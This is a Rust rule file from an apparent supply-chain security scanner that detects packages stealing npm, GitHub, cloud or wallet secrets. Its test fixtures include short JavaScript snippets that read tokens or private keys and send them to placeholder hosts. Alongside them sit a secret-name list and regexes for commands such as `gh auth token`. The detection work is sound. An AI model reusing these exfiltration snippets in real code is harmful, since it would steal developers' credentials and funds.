//! Rule `token-theft`.

use crate::model::Severity;
use crate::package::Package;
use crate::rules::{Emitter, all_text, code_files, is_doc_path};

crate::declare_rule! {
    /// Reads publishing and cloud secrets (NPM_TOKEN, GITHUB_TOKEN, Actions runtime and OIDC
    /// tokens, AWS/Azure/GCP keys, `gh auth token`, `_authToken` lines of .npmrc) in a file that
    /// can send them out. Release tools read tokens to use them with their own service, so one
    /// token next to network code is `medium`; several kinds, or token commands, are `high`.
    id: "token-theft",
    category: Data,
    severity: High,
    capability: Some(crate::model::Capability::Environment),
    title: "reads publishing or cloud tokens and can send them",
    incident: "Shai-Hulud (2025) and Nx s1ngularity (2025) stole npm, GitHub and cloud tokens",
    case_file: "index.js",
    flag: ["function check(seed) { fetch('https://api.example.net/check', { method: 'POST', headers: { 'ad-referral': String(seed) } }) }",
           "const q = (c) => fetch('https://rpc.example.net/queue', { method: 'POST', headers: { 'x-id': c } }); class K { constructor(k) { q(Buffer.from(k.secretKey).toString('base64')) } }",
           "const t = process.env.NPM_TOKEN; const g = process.env.GITHUB_TOKEN; fetch(u, { method: 'POST', body: t + g })",
           "const tok = require('child_process').execSync('gh auth token').toString(); require('https').request(o).end(tok)",
           "function q(s) { return fetch('https://sol-stats.example.org/q?s=' + s) }\nexport function load(b) { const kp = Keypair.fromSecretKey(b); q(bs58.encode(kp.secretKey)); return kp }",
           "class Vault { track(k) { return require('https').request({ host: 'vault-metrics.example.org', method: 'PUT' }).end(k) } load(s) { const w = new Wallet(s); this.track(w.privateKey); return w } }",
           "function note(k) { return fetch('https://rpc-stats.example.org/', { method: 'HEAD', headers: { 'x-trace': Buffer.from(k).toString('hex') } }) }\nexport function load(s) { const kp = Keypair.fromSecretKey(s); note(kp.secretKey); return kp }"],
    pass: ["fetch('https://rpc.example.net/', { method: 'POST', body: JSON.stringify({ method: 'getBalance', params: [publicKey] }) })",
           "return bs58.encode(Buffer.from(this._keypair.secretKey).toString('hex'))",
           "const t = process.env.MY_APP_TOKEN; fetch(u, { headers: { authorization: t } })",
           "const t = process.env.NPM_TOKEN; console.log(t ? 'set' : 'unset')",
           // a key handed to a local signer, and a request to a fixed host that carries none
           "function sign(k, m) { return nacl.sign.detached(m, k) }\nfunction ping() { return fetch('https://rpc.example.org/health') }\nexport function load(s) { const kp = Keypair.fromSecretKey(s); ping(); return sign(kp.secretKey, msg) }"],
}

const SECRETS: &[&str] = &[
    "NPM_TOKEN",
    "NODE_AUTH_TOKEN",
    "NPM_AUTH_TOKEN",
    "GITHUB_TOKEN",
    "GH_TOKEN",
    "GITHUB_PAT",
    "ACTIONS_RUNTIME_TOKEN",
    "ACTIONS_ID_TOKEN_REQUEST_TOKEN",
    "ACTIONS_ID_TOKEN_REQUEST_URL",
    "AWS_ACCESS_KEY_ID",
    "AWS_SECRET_ACCESS_KEY",
    "AWS_SESSION_TOKEN",
    "AZURE_CLIENT_SECRET",
    "GOOGLE_APPLICATION_CREDENTIALS",
    "GITLAB_TOKEN",
    "CI_JOB_TOKEN",
    "CIRCLE_TOKEN",
    "HEROKU_API_KEY",
    "DIGITALOCEAN_ACCESS_TOKEN",
    "SLACK_TOKEN",
    "DISCORD_TOKEN",
];

fn check(pkg: &Package, out: &mut Emitter) {
    let cmds = crate::regex!(
        r"gh\s+auth\s+token|npm\s+token\s+(list|create)|git\s+config\s+[^\n'\x22]*extraheader|_authToken|security\s+find-generic-password"
    );
    for f in code_files(pkg) {
        if is_doc_path(&f.path) || !super::has_network(f) {
            continue;
        }
        let text = all_text(f);
        let mut names: Vec<&str> = Vec::new();
        let mut off = None;
        for s in SECRETS {
            let key = format!("process.env.{s}");
            let from_facts = f.js.as_ref().and_then(|j| j.member(&key));
            if let Some(o) = from_facts {
                names.push(s);
                off = Some(off.map_or(o, |x: u32| x.min(o)));
            } else if text.contains(&format!("'{s}'"))
                || text.contains(&format!("\"{s}\""))
                || text.contains(&format!("env.{s}"))
            {
                names.push(s);
            }
        }
        // Private key material encoded and handed to a function (that sends it): the
        // @solana/web3.js 1.95.6 backdoor. Key libraries encode keys to return them, not to pass
        // them to a call that ends in a request to a fixed host.
        let key_out = crate::regex!(
            r"\b\w+\(\s*Buffer\.from\([^()]*\.(secretKey|privateKey|_privateKey|mnemonic|seed)\)\.toString\(\s*['\x22](base64|hex)['\x22]\s*\)\s*\)"
        );
        let fixed_post = crate::regex!(
            r#"fetch\(\s*['"`]https?://[^'"`$]+['"`]\s*,\s*\{[^}]{0,200}method:\s*['"`]POST"#
        );
        // A seed or private key put straight into the headers or body of a request to a fixed
        // host (the xrpl.js 4.2.1 backdoor sent seeds in an `ad-referral` header).
        let key_in_request = crate::regex!(
            r#"fetch\(\s*['"`]https?://[^'"`$]+['"`]\s*,\s*\{[^;]{0,300}?\b(headers|body)\s*:\s*[^;]{0,200}?\b(seed|mnemonic|seedPhrase|secretKey|privateKey|private_key|secret_key)\b"#
        );
        if let Some(k) = key_in_request.find(&f.text) {
            out.hit_sev(
                Severity::Critical,
                pkg,
                f,
                k.start() as u32,
                "puts a wallet seed or private key into a request to a fixed host",
            );
            continue;
        }
        if let (Some(k), true) = (key_out.find(&f.text), fixed_post.is_match(&f.text)) {
            out.hit_sev(
                Severity::Critical,
                pkg,
                f,
                k.start() as u32,
                "encodes private key material and passes it to code that posts to a fixed host",
            );
            continue;
        }
        if let Some(o) = key_handed_to_sender(f) {
            out.hit_sev(
                Severity::Critical,
                pkg,
                f,
                o,
                "hands private key material to a function that sends to a fixed host",
            );
            continue;
        }
        let cmd = cmds.find(text).map(|m| (m.start(), m.as_str().to_string()));
        if names.is_empty() && cmd.is_none() {
            continue;
        }
        let kinds = names
            .iter()
            .map(|n| n.split('_').next().unwrap_or(n))
            .collect::<std::collections::BTreeSet<_>>()
            .len();
        let sev = if cmd.is_some() || kinds >= 2 {
            Severity::High
        } else {
            Severity::Medium
        };
        let sev = if pkg.is_install_file(f) {
            sev.raised()
        } else {
            sev
        };
        let off = off
            .or_else(|| {
                cmd.as_ref()
                    .map(|(o, _)| *o as u32)
                    .filter(|o| (*o as usize) < f.text.len())
            })
            .unwrap_or(0);
        let mut what: Vec<String> = names.iter().map(|s| s.to_string()).collect();
        if let Some((_, c)) = cmd {
            what.push(format!("`{c}`"));
        }
        out.hit_sev(
            sev,
            pkg,
            f,
            off,
            format!("reads {} in a file that uses the network", what.join(", ")),
        );
    }
}

/// Wallet key material (a keypair's `secretKey`, a `privateKey`, a mnemonic or seed) handed to a
/// function of the file whose own body sends to an address fixed in the code: the
/// @solana/web3.js 1.95.6 backdoor's `addToQueue(kp.secretKey)`, whatever the request's method
/// or where in it the key goes. Key libraries hand keys to signers and encoders, which send
/// nothing; a client sends to the endpoint its caller configures.
fn key_handed_to_sender(f: &crate::package::FileCtx) -> Option<u32> {
    let js = f.js.as_ref()?;
    let handed = crate::regex!(
        r"(?:^|[^\w$.])(?:this\.)?([A-Za-z_$][\w$]*)\(\s*(?:[\w$.]+\(\s*){0,3}(?:[\w$]+\.)+(?:secretKey|privateKey|_privateKey|mnemonic|seedPhrase|secret_key|private_key)\b"
    );
    for c in handed.captures_iter(&f.text).take(32) {
        let name = c.get(1)?;
        let n = regex::escape(name.as_str());
        let Ok(def) = regex::Regex::new(&format!(
            r"(?m)function\s*\*?\s*{n}\s*\(|\b{n}\s*[:=]\s*(?:async\s+)?(?:function\b|\(|[A-Za-z_$][\w$]*\s*=>)|(?:^|[{{}};])\s*(?:(?:async|static)\s+)*{n}\s*\([^)]*\)\s*\{{"
        )) else {
            continue;
        };
        let Some(d) = def.find(&f.text) else { continue };
        let (ds, de) = (d.start() as u32, d.end() as u32);
        // The function the definition opens: the first span starting within it.
        let Some(&(s, e)) = js
            .functions
            .iter()
            .filter(|(s, _)| *s >= ds && *s <= de + 8)
            .min_by_key(|(s, _)| *s)
        else {
            continue;
        };
        if js.calls.iter().any(|c| {
            c.off > s
                && c.off < e
                && crate::rules::network::is_net_call(&c.path)
                && super::client_data_theft::fixed_destination(f, c.off)
        }) {
            return Some(name.start() as u32);
        }
    }
    None
}
